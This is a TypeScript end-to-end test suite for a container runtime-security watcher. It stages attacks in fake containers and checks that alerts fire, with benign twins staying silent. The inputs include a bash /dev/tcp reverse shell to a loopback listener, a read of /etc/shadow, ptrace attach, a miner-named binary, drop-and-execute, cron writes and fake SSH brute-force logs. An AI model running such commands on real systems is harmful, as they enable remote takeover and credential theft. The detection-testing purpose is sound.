// End-to-end: `vigil runtime watch --format json` on real kernel events.
// One watch process (bpftrace attach takes seconds) serves every case in
// sequence; each attack runs in its own docker-style container (pid, mount,
// uts, ipc namespaces + a `docker/<64 hex>` cgroup), each benign twin in
// another, and the alerts are matched by type and full container id.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server, type Socket } from 'node:net';
import { mkdtempSync, mkdirSync, rmSync, copyFileSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { FakeContainer, Watch, skipReason, REPO } from './harness.js';
import { e2eType } from '../../helpers/e2e-coverage.js';

const skip = skipReason();
const SETTLE_MS = 1500;

describe('vigil runtime watch on real kernel events', { skip, timeout: 300_000 }, () => {
  const w = new Watch();
  const made: FakeContainer[] = [];
  const box = (): FakeContainer => {
    const c = new FakeContainer();
    made.push(c);
    return c;
  };
  let dir = '';
  let bindir = '';
  let cronFile = '';
  let server: Server;
  let port = 0;
  const sockets: Socket[] = [];
  const closed: Array<Promise<void>> = [];
  // Containers named by the policy must exist before the watch starts.
  const cProt = box();
  const cProtTwin = box();
  const cWl = box();
  const cWlTwin = box();
  const cEnf = box();
  const cRsEnf = box();
  const allowed = ['/bin/sh', '/usr/bin/sh', '/bin/dash', '/usr/bin/dash', '/bin/true', '/usr/bin/true'];

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'vigil-e2e-rt-'));
    mkdirSync(join(dir, 'protected'));
    mkdirSync(join(dir, 'other'));
    bindir = `/var/lib/vigil-e2e-${randomBytes(4).toString('hex')}`;
    mkdirSync(bindir, { recursive: true });
    cronFile = `/etc/cron.d/vigil-e2e-${randomBytes(4).toString('hex')}`;
    const policy = {
      apiVersion: 'vigil.dev/v1',
      kind: 'RuntimePolicy',
      policies: [
        { name: 'protect', selector: { containers: [cProt.id, cProtTwin.id] }, fileProtection: { paths: [join(dir, 'protected')] } },
        { name: 'whitelist', selector: { containers: [cWl.id, cWlTwin.id] }, processWhitelist: { executables: allowed } },
        { name: 'enforce', selector: { containers: [cEnf.id] }, mode: 'enforce', processWhitelist: { executables: allowed } },
        { name: 'revshell', selector: { containers: [cRsEnf.id] }, mode: 'enforce' },
      ],
    };
    writeFileSync(join(dir, 'policy.yaml'), JSON.stringify(policy));
    server = createServer((s) => {
      sockets.push(s);
      closed.push(new Promise((res) => s.on('close', () => res())));
      s.on('error', () => {});
    });
    await new Promise<void>((res) => server.listen(0, '127.0.0.1', () => res()));
    port = (server.address() as { port: number }).port;
    writeFileSync(join(dir, 'threat-ips.txt'), '# e2e threat list\n127.0.0.2/32\n');
    await w.start([
      '--policy',
      join(dir, 'policy.yaml'),
      '--state',
      join(dir, 'learn.json'),
      '--stats',
      '0',
      '--auth-log',
      join(dir, 'auth.log'),
      '--threat-ips',
      join(dir, 'threat-ips.txt'),
    ]);
  });

  after(async () => {
    const code = await w.stop('SIGINT');
    for (const s of sockets) s.destroy();
    server?.close();
    rmSync(cronFile, { force: true });
    rmSync(bindir, { recursive: true, force: true });
    rmSync(dir, { recursive: true, force: true });
    for (const c of made) c.remove();
    assert.equal(code, 0, `watch exits 0 on SIGINT; stderr: ${w.stderr}`);
    assert.match(w.stderr, /ready/);
  });

  const silent = async (c: FakeContainer) => {
    await new Promise((r) => setTimeout(r, 300));
    assert.deepEqual(
      w.of(c.id).map((a) => `${a.type} (${a.rule})`),
      [],
      'the benign twin raises no alert',
    );
  };

  it('reading /etc/shadow: user/password-theft; reading /etc/hostname is silent', async () => {
    const twin = box();
    await twin.run('cat /etc/hostname > /dev/null');
    const c = box();
    await c.run('cat /etc/shadow > /dev/null');
    const a = await w.waitFor((x) => x.container?.id === c.id && x.type === e2eType('user/password-theft', 'kernel event'));
    assert.equal(a.process?.name, 'cat');
    assert.match(a.container!.id, /^[0-9a-f]{64}$/);
    await silent(twin);
  });

  it('ptrace attach: system/high-risk-syscall; a plain syscall is silent', async () => {
    const twin = box();
    await twin.run(`perl -e 'syscall(39)'`);
    const c = box();
    await c.run(`sleep 5 & perl -e 'syscall(101, 16, $ARGV[0], 0, 0)' $!; kill -9 $! 2>/dev/null; true`);
    await w.waitFor((x) => x.container?.id === c.id && x.type === e2eType('system/high-risk-syscall', 'kernel event') && x.process?.name === 'perl');
    await silent(twin);
  });

  it('bash /dev/tcp reverse shell to a loopback listener: system/reverse-shell; a plain loopback connection is silent', async () => {
    const twin = box();
    await twin.run(`perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("127.0.0.1:${port}") or die; print $s "hi\\n"; close $s'`);
    const c = box();
    const running = c.run(`bash -c 'bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1'`, { timeoutMs: 15_000 });
    const a = await w.waitFor((x) => x.container?.id === c.id && x.type === e2eType('system/reverse-shell', 'kernel event'));
    assert.equal(a.container!.id, c.id);
    // Let the shell go: the listener tells it to exit.
    for (const s of sockets) if (!s.destroyed) s.end('exit\n');
    await running;
    await silent(twin);
  });

  it('miner-named binary with stratum+tcp arguments: container/malicious-program; the same binary under another name is silent', async () => {
    copyFileSync('/usr/bin/true', join(bindir, 'xmrig'));
    copyFileSync('/usr/bin/true', join(bindir, 'worker'));
    spawnSync('chmod', ['755', join(bindir, 'xmrig'), join(bindir, 'worker')]);
    const twin = box();
    await twin.run(`${bindir}/worker --threads 2 --url http://127.0.0.1:3333`);
    const c = box();
    await c.run(`${bindir}/xmrig -o stratum+tcp://127.0.0.1:3333 -u 4A1x -p x`);
    // The shell that runs it has the same arguments on its command line: look for the binary itself.
    const a = await w.waitFor(
      (x) => x.container?.id === c.id && x.type === e2eType('container/malicious-program', 'kernel event') && x.process?.name === 'xmrig',
    );
    assert.equal(a.process?.exepath, join(bindir, 'xmrig'));
    await silent(twin);
  });

  it('drop and execute: a binary written in the container and run raises container/malicious-program; a compiled one and an old one are silent', async () => {
    copyFileSync('/usr/bin/true', join(bindir, 'prebuilt'));
    spawnSync('chmod', ['755', join(bindir, 'prebuilt')]);
    const twin = box();
    // An executable that was there before (created outside the container), and one the compiler links in the container.
    await twin.run(`${bindir}/prebuilt && printf 'int main(void){return 0;}' > ${bindir}/m.c && gcc -o ${bindir}/built ${bindir}/m.c && ${bindir}/built`);
    const c = box();
    await c.run(`cp /usr/bin/true ${bindir}/dropped && chmod +x ${bindir}/dropped && ${bindir}/dropped`);
    const a = await w.waitFor((x) => x.container?.id === c.id && x.rule === 'Drop and execute new binary in container');
    assert.equal(a.type, 'container/malicious-program');
    assert.equal(a.process?.exepath, join(bindir, 'dropped'));
    assert.match(a.message, /written by cp/);
    await silent(twin);
  });

  it('writing a cron entry: command/scheduled-task; writing a file elsewhere is silent', async () => {
    const twin = box();
    await twin.run(`echo '* * * * * root true' > ${dir}/other/crontab`);
    const c = box();
    await c.run(`echo '* * * * * root true' > ${cronFile}`);
    await w.waitFor((x) => x.container?.id === c.id && x.type === e2eType('command/scheduled-task', 'kernel event'));
    await silent(twin);
  });

  it('unshare and setns from a container: system/high-risk-syscall; a plain command is silent', async () => {
    const twin = box();
    await twin.run('true');
    const c1 = box();
    await c1.run('unshare --uts true');
    await w.waitFor((x) => x.container?.id === c1.id && x.type === 'system/high-risk-syscall');
    const c2 = box();
    await c2.run('nsenter --uts=/proc/self/ns/uts true');
    await w.waitFor((x) => x.container?.id === c2.id && x.type === 'system/high-risk-syscall');
    await silent(twin);
  });

  it('writing to a protected directory: container/sensitive-file-access; writing next to it is silent', async () => {
    await cProtTwin.run(`echo x > ${dir}/other/f`);
    await cProt.run(`echo x > ${dir}/protected/f`);
    const a = await w.waitFor((x) => x.container?.id === cProt.id && x.type === e2eType('container/sensitive-file-access', 'kernel event'));
    assert.match(a.message, /protected\/f/);
    assert.equal(a.action?.kind, 'alert');
    // Writing next to the protected directory raises nothing, not even a policy's reverse-shell verdict on the
    // shell restoring its stdout (a unix socketpair) with dup2 (src/node/runtime/pipeline.test.ts reproduces that).
    await silent(cProtTwin);
  });

  it('a process outside the whitelist: container/abnormal-process; whitelisted programs are silent', async () => {
    await cWlTwin.run('/usr/bin/true');
    await cWl.run('/usr/bin/true; /usr/bin/id > /dev/null');
    const a = await w.waitFor((x) => x.container?.id === cWl.id && x.type === e2eType('container/abnormal-process', 'kernel event'));
    assert.equal(a.process?.exepath, '/usr/bin/id');
    await silent(cWlTwin);
  });

  it('enforce: the process outside the whitelist is killed with SIGKILL, and the alert says so', async () => {
    const rc = join(dir, 'enforce-rc');
    const r = await cEnf.run(`/usr/bin/sleep 30; echo $? > ${rc}`, { timeoutMs: 25_000 });
    assert.ok(r.ms < 20_000, `sleep 30 was cut short (took ${r.ms} ms)`);
    assert.equal(readFileSync(rc, 'utf8').trim(), '137', 'sleep died of SIGKILL (128 + 9)');
    const a = await w.waitFor((x) => x.container?.id === cEnf.id && x.type === 'container/abnormal-process');
    assert.equal(a.action?.kind, 'killed');
    assert.equal(typeof a.action?.delayUs, 'number');
  });

  it('enforce: a reverse shell is killed as soon as it starts', async () => {
    const before = closed.length;
    const r = await cRsEnf.run(`bash -c 'bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1'`, { timeoutMs: 20_000 });
    assert.ok(r.ms < 15_000, `the shell did not live on (took ${r.ms} ms)`);
    const a = await w.waitFor((x) => x.container?.id === cRsEnf.id && x.type === 'system/reverse-shell' && x.action?.kind === 'killed');
    assert.equal(typeof a.action?.delayUs, 'number');
    assert.ok(closed.length > before, 'the listener saw the connection');
    await Promise.race([Promise.all(closed.slice(before)), new Promise((r) => setTimeout(r, 5000))]);
  });

  it('a connection to a threat-listed address: network/abnormal-outbound; another loopback address is silent', async () => {
    const bad = createServer((sk) => sk.end());
    await new Promise<void>((res) => bad.listen(0, '127.0.0.2', () => res()));
    const badPort = (bad.address() as { port: number }).port;
    try {
      const connect = (ip: string, p: number) => `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("${ip}:${p}") or die; close $s'`;
      const twin = box();
      await twin.run(connect('127.0.0.1', port));
      const c = box();
      await c.run(connect('127.0.0.2', badPort));
      const a = await w.waitFor((x) => x.container?.id === c.id && x.type === e2eType('network/abnormal-outbound', 'kernel event'));
      assert.match(a.message, /127\.0\.0\.2/);
      await silent(twin);
    } finally {
      bad.close();
    }
  });

  it('ssh login failures in an auth log: user/brute-force', async () => {
    const lines: string[] = [];
    for (let i = 0; i < 12; i++)
      lines.push(`Nov 28 17:00:${String(i).padStart(2, '0')} node1 sshd[4242]: Failed password for invalid user admin from 203.0.113.9 port ${40000 + i} ssh2`);
    writeFileSync(join(dir, 'auth.log'), `${lines.join('\n')}\n`);
    await w.waitFor((x) => x.type === e2eType('user/brute-force', 'auth log'), 10_000);
  });

  it('no alert names a twin or the harness: every container alert carries a full 64-hex id', async () => {
    await new Promise((r) => setTimeout(r, SETTLE_MS));
    for (const a of w.alerts) if (a.container) assert.match(a.container.id, /^[0-9a-f]{64}$/);
    assert.ok(existsSync(REPO));
  });
});

describe('vigil runtime watch --sensor procfs (polling fallback)', { skip, timeout: 120_000 }, () => {
  it('says so at start and still sees a long-lived process outside the whitelist', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'vigil-e2e-poll-'));
    const c = new FakeContainer();
    const twin = new FakeContainer();
    const w = new Watch();
    try {
      writeFileSync(
        join(dir, 'p.json'),
        JSON.stringify({
          policies: [
            {
              name: 'wl',
              selector: { containers: [c.id, twin.id] },
              processWhitelist: { executables: ['/usr/bin/dash', '/bin/dash', '/usr/bin/sleep', '/bin/sleep'] },
            },
          ],
        }),
      );
      await w.start([
        '--sensor',
        'procfs',
        '--poll-interval',
        '100',
        '--no-builtin-rules',
        '--policy',
        join(dir, 'p.json'),
        '--state',
        join(dir, 's.json'),
        '--stats',
        '0',
        '--auth-log',
        join(dir, 'none.log'),
      ]);
      assert.match(w.stderr, /procfs polling every 100 ms \(eBPF not used/);
      await twin.run('sleep 1');
      await c.run('cp /usr/bin/sleep ' + join(dir, 'napper') + ' && ' + join(dir, 'napper') + ' 1');
      const a = await w.waitFor((x) => x.container?.id === c.id && x.type === 'container/abnormal-process' && x.process?.name === 'napper');
      assert.equal(a.process?.exepath, join(dir, 'napper'));
      assert.ok(!w.of(twin.id).some((x) => x.process?.name === 'sleep'), 'whitelisted sleep is silent');
    } finally {
      assert.equal(await w.stop(), 0);
      c.remove();
      twin.remove();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('vigil runtime watch: lost events are never silent', { skip, timeout: 240_000 }, () => {
  it('raises sensor/lost-events when the kernel buffers overflow', async () => {
    const w = new Watch();
    try {
      // One page per CPU: a burst of execs overflows it before bpftrace drains it.
      await w.start(['--no-builtin-rules', '--stats', '0', '--auth-log', '/nonexistent/auth.log'], 130_000, { BPFTRACE_PERF_RB_PAGES: '1' });
      const burst = 'for j in 1 2 3 4; do (i=0; while [ $i -lt 500 ]; do /bin/true a b c d e f g h; i=$((i+1)); done) & done; wait';
      const end = Date.now() + 60_000;
      while (!w.alerts.some((a) => a.type === 'sensor/lost-events') && Date.now() < end) spawnSync('sh', ['-c', burst]);
      const a = await w.waitFor((x) => x.type === 'sensor/lost-events', 5000);
      assert.ok(Number(a.fields?.lost) > 0);
      assert.match(a.message, /lost \d+ kernel events/);
    } finally {
      assert.equal(await w.stop(), 0);
    }
    assert.match(w.stderr, /lost=[1-9]/, 'and the final stats line counts them');
  });
});

describe('vigil runtime watch prerequisites', { skip, timeout: 60_000 }, () => {
  it('exits 2 with one line when not root', () => {
    const r = spawnSync(
      'setpriv',
      ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, '--import', 'tsx', join(REPO, 'src/cli/main.ts'), 'runtime', 'watch'],
      {
        cwd: REPO,
        encoding: 'utf8',
        timeout: 60_000,
      },
    );
    assert.equal(r.status, 2, r.stderr);
    const lines = r.stderr.trim().split('\n');
    assert.equal(lines.length, 1, r.stderr);
    assert.match(lines[0]!, /root/);
  });
});
